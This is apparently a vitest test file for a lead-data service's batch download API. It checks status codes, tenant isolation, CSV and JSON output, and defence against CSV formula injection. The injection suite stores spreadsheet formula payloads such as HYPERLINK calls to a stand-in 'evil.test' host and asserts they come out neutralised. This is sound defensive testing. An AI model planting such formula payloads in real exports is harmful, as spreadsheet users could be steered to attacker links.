import { parse } from 'csv-parse/sync';
import { afterAll, describe, expect, it } from 'vitest';
import { CSV_COLUMNS } from '../../services/lib/lead-object.ts';
import { storedBatch as storedBatchOf, testGateway } from '../support/gateway.ts';

const gw = await testGateway('gwdl');
afterAll(() => gw.close());

type Json = Record<string, unknown>;

const storedBatch = (accountId: string, rows: number, complete: boolean) =>
  storedBatchOf(gw.deps, accountId, rows, { complete });

describe('GET /api/batches/{id}/download', () => {
  it('answers 409 until the batch is completed', async () => {
    const { token, accountId } = await gw.signUp();
    const id = await storedBatch(accountId, 4, false);
    const res = await gw.json('GET', `/batches/${id}/download`, undefined, token);
    expect(res.status).toBe(409);
    expect(((await res.json()) as Json).detail).toMatch(/processing/);
  });

  it('streams the qualified leads as safe CSV by default, all leads with include=all, lead objects as JSON', async () => {
    const { token, accountId } = await gw.signUp();
    const id = await storedBatch(accountId, 12, true);

    const csv = await gw.json('GET', `/batches/${id}/download`, undefined, token);
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(csv.headers.get('content-disposition')).toContain('my_leads_qualified.csv');
    const lines = (await csv.text()).trim().split('\n');
    expect(lines[0]).toMatch(/^status,score,full_name/);
    expect(lines[0]).toMatch(
      /,company_name_source,title_normalized_source,signals_source,technologies_source,evidence_coverage,evidence_missing$/,
    );
    expect(lines[1]).toMatch(/,input,input,clearbit,sandbox:apollo_io,0\.8333,company_size$/);
    expect(lines).toHaveLength(1 + 3); // rows 0, 4, 8 are QUALIFIED, each once despite two inserts
    expect(lines[1]).toContain(`"'=HYPERLINK(""http://evil"",""x"")"`);
    expect(lines[1]).toContain("'+1-202-555-0199");

    const all = await gw.json('GET', `/batches/${id}/download?include=all&format=json`, undefined, token);
    expect(all.headers.get('content-type')).toMatch(/^application\/json/);
    const leads = (await all.json()) as Json[];
    expect(leads).toHaveLength(12);
    expect(leads.map((l) => l.row_index)).toEqual([...Array(12).keys()]);
    expect(leads[1]).toMatchObject({
      status: 'REJECTED',
      score: 89,
      account: {
        name: 'Acme',
        domain: 'acme.io',
        signals: ['Series B'],
        technologies: ['AWS', 'Salesforce'],
      },
      contact: {
        full_name: 'Pat Doe1',
        title_normalized: 'VP of Sales',
        email: 'p1@acme.io',
        email_status: 'deliverable',
        phone: '+1-202-555-0199',
        phone_status: 'mobile_valid',
      },
      dedup_confidence: 0.97,
      // Where each value came from, as the sink stored it, and the score's evidence.
      provenance: {
        company_name: 'input',
        title_normalized: 'input',
        signals: 'clearbit',
        technologies: 'sandbox:apollo_io',
      },
      evidence: { coverage: 0.8333, missing: ['company_size'] },
    });
    expect(leads[3]).toMatchObject({ status: 'DUPLICATE', duplicate_of: `${id}:0` });
  });

  it("answers 404 for another tenant's batch and 400 for a bad format", async () => {
    const alice = await gw.signUp();
    const mallory = await gw.signUp();
    const id = await storedBatch(alice.accountId, 2, true);
    expect((await gw.json('GET', `/batches/${id}/download`, undefined, mallory.token)).status).toBe(404);
    expect((await gw.json('GET', `/batches/${id}/download?format=xlsx`, undefined, alice.token)).status).toBe(
      400,
    );
  });
});

describe('CSV formula injection', () => {
  /** What a spreadsheet runs as a formula when a cell starts with it (OWASP: =, +, -, @, tab, CR). */
  const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
  const FORMULA = /^[=+\-@\t\r]/;

  it('neutralises a formula in every downloaded column, on rows as stored in ClickHouse', async () => {
    const { token, accountId } = await gw.signUp();
    const payload = (i: number, column: string) =>
      `${TRIGGERS[i % TRIGGERS.length]}HYPERLINK("http://evil.test/?${column}&row=${i}","x")`;
    // Every stored value a CSV column is made of is hostile: strings start with a trigger, numbers
    // are negative (a leading "-" is one too), the phone is "+" anyway.
    const id = await storedBatchOf(gw.deps, accountId, TRIGGERS.length * 2, {
      row: (r, i) => ({
        ...r,
        status: payload(i, 'status'),
        score: -(i + 1),
        full_name: payload(i, 'full_name'),
        title_normalized: null,
        enriched_title: payload(i, 'title'),
        email: payload(i, 'email'),
        email_status: payload(i, 'email_status'),
        // Stored E.164 is shown formatted ("+1-202-..."): a leading "+" on every row.
        phone_e164: '+12025550199',
        phone_status: payload(i, 'phone_status'),
        enriched_company_name: payload(i, 'company_name'),
        domain: payload(i, 'domain'),
        signals: [payload(i, 'signals'), 'Series B'],
        technologies: [payload(i, 'technologies')],
        dedup_confidence: -0.5,
        lead_id: payload(i, 'lead_id'),
        row_index: -(i + 1),
        is_duplicate: 1,
        survivor_id: payload(i, 'duplicate_of'),
        field_sources_json: JSON.stringify({
          company_name: payload(i, 'company_name_source'),
          person_title: payload(i, 'title_normalized_source'),
          signals: payload(i, 'signals_source'),
          technologies: payload(i, 'technologies_source'),
        }),
        score_coverage: -0.25,
        score_missing: [payload(i, 'evidence_missing')],
      }),
    });
    const res = await gw.json('GET', `/batches/${id}/download?include=all`, undefined, token);
    expect(res.status).toBe(200);
    const [header, ...rows] = parse(await res.text(), { relax_column_count: false }) as string[][];
    expect(header).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(TRIGGERS.length * 2);
    const attacked = new Map<string, Set<string>>(CSV_COLUMNS.map((c) => [c, new Set()]));
    for (const row of rows) {
      row.forEach((cell, c) => {
        const column = CSV_COLUMNS[c] as string;
        expect(cell, `${column}: ${JSON.stringify(cell)}`).not.toMatch(FORMULA);
        // Neutralised, not mangled: the apostrophe, then the stored value as it was.
        if (cell.startsWith("'") && FORMULA.test(cell.slice(1))) attacked.get(column)?.add(cell[1] as string);
      });
    }
    // Every column really carried a formula (so the check above saw each one), strings with every trigger.
    for (const [column, triggers] of attacked) {
      expect(triggers.size, `${column} carried no formula`).toBeGreaterThan(0);
    }
    const numeric = new Set(['score', 'dedup_confidence', 'row_index', 'evidence_coverage']);
    for (const [column, triggers] of attacked) {
      if (!numeric.has(column) && column !== 'phone')
        expect([...triggers].sort(), column).toEqual([...TRIGGERS].sort());
    }
    // Rows come in row_index order, here the reverse of i (negative indices).
    const first = rows.find((r) => r[CSV_COLUMNS.indexOf('full_name')]?.includes('&row=0"')) as string[];
    expect(first[CSV_COLUMNS.indexOf('full_name')]).toBe(`'${payload(0, 'full_name')}`);
    expect(first[CSV_COLUMNS.indexOf('signals')]).toBe(`'${payload(0, 'signals')}; Series B`);
  });
});
